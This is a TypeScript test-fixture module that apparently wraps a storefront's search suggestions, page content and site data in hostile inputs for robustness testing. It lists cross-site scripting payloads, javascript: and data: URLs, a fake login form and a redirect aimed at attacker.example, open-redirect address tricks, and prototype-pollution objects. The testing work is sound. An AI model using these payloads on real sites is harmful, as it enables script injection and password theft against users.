import type { Suggestions } from './search-index.ts';
import type { PageContent } from './site-files.ts';

/** Markup that runs a script, loads something, or breaks out of its place, where it is trusted. */
const payloads: readonly string[] = [
  '<script>document.title = "attacked"</script>',
  '<img src="x" onerror="document.title = \'attacked\'">',
  '<svg onload="document.title = \'attacked\'"><a href="javascript:alert(1)"><text y="20">Attack</text></a></svg>',
  '<iframe srcdoc="<script>parent.document.title = \'attacked\'</script>"></iframe>',
  '<style>body { display: none }</style><link rel="stylesheet" href="https://attacker.example/x.css">',
  '<form action="https://attacker.example/"><input name="password" type="password"><button>Sign in</button></form>',
  '<meta http-equiv="refresh" content="0; url=https://attacker.example/"><base href="https://attacker.example/">',
  '<div style="position: fixed; inset: 0; z-index: 99999" id="main">Attack</div>',
  '</footer></header></body></html><h1>Attack</h1><!-- <math><mtext></form><form><mglyph><style></math>',
];

const addresses: readonly string[] = [
  'javascript:document.title = "attacked"',
  'java\tscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '//attacker.example/',
  '/\\attacker.example/',
  'https://store@attacker.example/',
];

/** The attacks first, so that whatever they open surrounds what is real. */
export const hostileMarkup = (markup: string): string => [...payloads, markup].join('\n');

/** Every list of links has those that must not lead anywhere, every text is markup besides, and parts are of the wrong kind. */
export const hostileTree = (tree: unknown): unknown => ({
  ...(attacked(tree) as object),
  ':type': payloads[0],
  __proto__: null,
  polluted: JSON.parse('{ "__proto__": { "polluted": true } }'),
});

function attacked(value: unknown, name = ''): unknown {
  if (typeof value === 'string') return name === 'title' || name === 'text' ? `${value} ${payloads[1]}` : value;
  if (Array.isArray(value)) return [...value.map((item) => attacked(item)), ...strangersFor(name)];
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([key, part]) => [key, attacked(part, key)]));
}

const strangersFor = (list: string): unknown[] =>
  list === ':itemsOrder'
    ? ['__proto__', 42, null]
    : [...addresses.map((address) => ({ title: 'Attack', path: address, linkPath: address, href: address })), null, 42];

/** Texts with markup and broken placeholders, and sections that are none. What a page cannot do without is as it was. */
export const hostilePageContent = (content: PageContent): object => ({
  ...content,
  findPage: { ...content['findPage'], intro: payloads.join(' '), notFound: '{', expired: 42 },
  modals: payloads[1],
  paymentPage: [payloads[0]],
  constructor: { name: payloads[0] },
});

export const hostileSuggestions = ({ products, productItems, content }: Suggestions): object => ({
  products: {
    total: products.total,
    items: [
      ...addresses.map((linkPath) => ({ title: 'Attack', linkPath })),
      ...products.items.map(({ title, ...item }) => ({ ...item, title: `${title} ${payloads[1]}` })),
    ],
  },
  productItems: { total: '1e9', items: productItems.items },
  content: { ...content, items: payloads.map((title) => ({ title, linkPath: '/search.html' })) },
});
